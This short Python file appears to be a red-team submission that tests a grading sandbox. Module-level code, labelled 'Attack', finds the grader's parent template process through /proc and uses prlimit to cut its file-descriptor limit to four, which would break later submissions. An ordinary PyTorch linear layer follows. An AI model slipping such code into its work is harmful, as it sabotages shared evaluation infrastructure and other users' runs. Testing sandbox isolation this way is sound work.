"""Attack: lower the template's file-descriptor limit for every later submission."""
import os
import resource

import torch
from torch import Tensor, nn


def _status(pid):
    with open(f"/proc/{pid}/status") as handle:
        return {k: v.strip() for k, _, v in (line.partition(":") for line in handle)}


def _template_pid():
    """The worker's parent, the grader's template (0 where the parent is outside the worker's PID namespace)."""
    return os.getppid()


def _judge_pid():
    template = _template_pid()
    return int(_status(template)["PPid"]) if template else 0


def attempt(label, action):
    try:
        result = action()
        print(f"{label}: done {result if result is not None else ''}".rstrip(), flush=True)
    except (OSError, ValueError) as exc:
        print(f"{label}: {exc}", flush=True)

template = _template_pid()
if template:
    attempt("prlimit(template, RLIMIT_NOFILE)", lambda: resource.prlimit(template, resource.RLIMIT_NOFILE, (4, 4)))
else:
    print("no template in sight: the parent is outside this PID namespace")


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        self.in_features = in_features
        self.out_features = out_features
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        if bias:
            self.bias = nn.Parameter(torch.randn(out_features))
        else:
            self.register_parameter("bias", None)

    def forward(self, x: Tensor) -> Tensor:
        y = x @ self.weights
        if self.bias is not None:
            y = y + self.bias
        return y
